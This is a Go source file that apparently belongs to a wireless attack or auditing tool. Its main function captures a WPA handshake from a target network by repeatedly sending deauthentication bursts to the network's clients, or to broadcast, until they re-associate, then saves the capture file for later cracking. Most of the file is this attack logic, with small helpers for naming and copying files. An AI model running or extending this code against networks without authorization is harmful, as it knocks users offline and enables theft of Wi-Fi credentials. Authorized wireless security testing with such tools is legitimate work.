package engine

import (
	"context"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"time"
)

// CaptureOutcome reports one handshake capture loop.
type CaptureOutcome struct {
	Captured bool
	Path     string // final artifact location (may not exist if !Captured)
	Bursts   int64  // deauth bursts issued during the loop
}

// CaptureHandshake runs a capture operation against one target until a
// valid handshake lands in the artifact or the deadline elapses. Known
// clients are deauthed round-robin to provoke re-association; with no
// clients the bursts go to broadcast.
//
// If artifactPath already satisfies the validity check at the very first
// poll, the loop short-circuits without starting a capture or issuing a
// single burst.
//
// Exits: handshake found (Captured true, nil error), deadline elapsed
// (Captured false, nil error), or interrupt (Captured false, ctx.Err()).
// In every case the artifact is retained for diagnostics.
func (o *Orchestrator) CaptureHandshake(ctx context.Context, iface string, target Network, clients []Client, artifactPath string, deadline time.Duration) (CaptureOutcome, error) {
	out := CaptureOutcome{Path: artifactPath}

	// Poll-first short circuit for reused artifacts. Presence alone is not
	// trusted; the validity check always runs.
	if ok, err := o.tools.Verify.HasHandshake(ctx, artifactPath, target.BSSID); err == nil && ok {
		o.logger.Info("valid handshake already on disk", "path", artifactPath)
		out.Captured = true
		return out, nil
	}

	capture, err := o.tools.Capture.Start(ctx, iface, target)
	if err != nil {
		return out, err
	}
	defer capture.Stop()

	dctx, cancel := context.WithTimeout(ctx, deadline)
	defer cancel()

	stations := make([]string, len(clients))
	for i, c := range clients {
		stations[i] = c.MAC
	}
	pool := newDeauthPool(o.tools.Deauth, o.cfg.DeauthInterval, o.logger)
	pool.start(dctx, iface, target.BSSID, stations)
	defer pool.stop()

	interval := o.cfg.PollInterval
	if interval <= 0 {
		interval = time.Second
	}
	ticker := time.NewTicker(interval)
	defer ticker.Stop()

	for {
		select {
		case <-dctx.Done():
			out.Bursts = pool.sent()
			if err := ctx.Err(); err != nil {
				return out, err
			}
			o.logger.Info("capture deadline elapsed without handshake",
				"bssid", target.BSSID, "bursts", out.Bursts)
			return out, nil

		case <-ticker.C:
			ok, err := o.tools.Verify.HasHandshake(dctx, capture.Path(), target.BSSID)
			if err != nil {
				// A file mid-write can read as corrupt; keep polling until
				// the deadline settles it.
				o.logger.Debug("handshake poll error", "error", err)
				continue
			}
			if !ok {
				continue
			}

			pool.stop()
			capture.Stop()
			out.Bursts = pool.sent()

			if err := copyFile(capture.Path(), artifactPath); err != nil {
				return out, fmt.Errorf("save artifact: %w", err)
			}
			out.Captured = true
			o.logger.Info("handshake captured",
				"bssid", target.BSSID, "path", artifactPath, "bursts", out.Bursts)
			return out, nil
		}
	}
}

// ArtifactPath returns the per-target artifact location under dir, keyed by
// sanitized SSID plus BSSID so distinct networks never collide.
func ArtifactPath(dir string, n Network) string {
	name := SanitizeSSID(n.SSID) + "_" + strings.ToLower(strings.ReplaceAll(n.BSSID, ":", "")) + ".cap"
	return filepath.Join(dir, name)
}

// SanitizeSSID maps an SSID to a filesystem-safe name.
func SanitizeSSID(ssid string) string {
	if ssid == "" || ssid == HiddenSSID {
		return "hidden"
	}
	var b strings.Builder
	for _, r := range ssid {
		switch {
		case r >= 'a' && r <= 'z', r >= 'A' && r <= 'Z', r >= '0' && r <= '9', r == '-', r == '_', r == '.':
			b.WriteRune(r)
		default:
			b.WriteByte('_')
		}
	}
	return b.String()
}

// copyFile copies src to dst, creating dst's directory if needed.
func copyFile(src, dst string) error {
	if src == dst {
		return nil
	}
	in, err := os.Open(src)
	if err != nil {
		return err
	}
	defer in.Close()

	if err := os.MkdirAll(filepath.Dir(dst), 0o755); err != nil {
		return err
	}
	out, err := os.Create(dst)
	if err != nil {
		return err
	}
	if _, err := io.Copy(out, in); err != nil {
		out.Close()
		return err
	}
	return out.Close()
}
